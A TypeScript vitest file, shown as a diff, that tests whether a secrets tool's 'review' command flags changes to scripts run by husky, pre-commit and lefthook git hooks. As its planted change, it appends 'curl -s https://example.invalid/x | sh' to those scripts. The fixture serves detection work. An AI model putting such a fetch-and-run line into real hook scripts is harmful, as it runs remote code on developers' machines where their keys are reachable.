@@ -1,0 +1,72 @@
+/**
+ * `review` of a change to a script that a git hook manager's file runs (real git; test-only age keys
+ * made in each sandbox): `.husky/pre-commit` running `./tools/fmt.sh`, a `.pre-commit-config.yaml`
+ * local hook's `entry: tools/lint`, lefthook's `run:` — the hook file unchanged, the script changed.
+ * A member's next commit runs it with their age key in reach: weakened-rule at the script, for a
+ * range of commits and for the working tree, and for a project in a subfolder (hooks at the top).
+ */
+import { join } from "node:path";
+import { describe, expect, it, vi } from "vitest";
+import { aliceProject, createSandbox, infraProject, sandboxesCleanedAfterEach } from "./helpers/cli.js";
+
+vi.setConfig({ testTimeout: 120_000 });
+
+const sandboxes = sandboxesCleanedAfterEach();
+
+interface Problem {
+  kind: string;
+  file?: string;
+  message: string;
+}
+
+const HOOKS: Record<string, string> = {
+  ".husky/pre-commit": "stellar-secrets pre-commit\n./tools/fmt.sh\n",
+  ".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - id: lint\n        name: lint\n        entry: tools/lint --fix\n        language: system\n",
+  "lefthook-local.yml": "pre-push:\n  jobs:\n    - run: |\n        bin/hook {push_files}\n",
+  "tools/fmt.sh": "echo fmt\n",
+  "tools/lint": "echo lint\n",
+  "bin/hook": "echo hook\n",
+};
+
+describe("review: the scripts the git hook managers' files run", () => {
+  it("a change to ./tools/fmt.sh (husky), tools/lint (pre-commit entry), bin/hook (lefthook run) is weakened-rule at each, naming the hook file; in a range, in the working tree, and for a project in a subfolder", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0001"]]);
+    for (const [path, text] of Object.entries(HOOKS)) s.write(path, text);
+    s.commit("hooks");
+    for (const path of ["tools/fmt.sh", "tools/lint", "bin/hook"]) s.write(path, `${HOOKS[path] as string}curl -s https://example.invalid/x | sh\n`);
+    // the working tree against HEAD (ls-files), then the commit (ls-tree)
+    const tree = await s.run(["review", "--json"]);
+    expect(tree.code, tree.stderr).toBe(1);
+    const expected = [
+      ["weakened-rule", "bin/hook", "lefthook-local.yml (lefthook)"],
+      ["weakened-rule", "tools/fmt.sh", ".husky/pre-commit (husky, a hook script)"],
+      ["weakened-rule", "tools/lint", ".pre-commit-config.yaml (the pre-commit framework)"],
+    ];
+    const seen = (out: string) =>
+      (JSON.parse(out) as { problems: Problem[] }).problems
+        .map((p) => [p.kind, p.file, /, and (.*?) runs it at a git hook/.exec(p.message)?.[1]])
+        .sort((a, b) => String(a[1]).localeCompare(String(b[1])));
+    expect(seen(tree.stdout)).toEqual(expected);
+    s.commit("scripts");
+    const range = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
+    expect(range.code, range.stderr).toBe(1);
+    expect(seen(range.stdout)).toEqual(expected);
+    // the hooks' files unchanged and nothing they run changed: clean
+    s.write("docs/readme.md", "x\n");
+    s.commit("docs");
+    expect((await s.run(["review", "HEAD~1", "HEAD"])).code).toBe(0);
+
+    // a project in the subfolder infra, the hooks at the top: paths from the project root
+    const t = createSandbox();
+    sandboxes.push(t);
+    const infra = await infraProject(t, "sk_test_hooks_0002");
+    for (const [path, text] of Object.entries(HOOKS)) t.write(path, text);
+    t.commit("hooks");
+    t.write("tools/fmt.sh", "curl -s https://example.invalid/x | sh\n");
+    t.commit("fmt");
+    const nested = await t.run(["review", "HEAD~1", "HEAD", "--json"], { cwd: infra });
+    expect(nested.code, nested.stderr).toBe(1);
+    expect(seen(nested.stdout)).toEqual([["weakened-rule", "../tools/fmt.sh", "../.husky/pre-commit (husky, a hook script)"]]);
+    expect(join(infra, "..")).toBe(t.repo);
+  });
+});
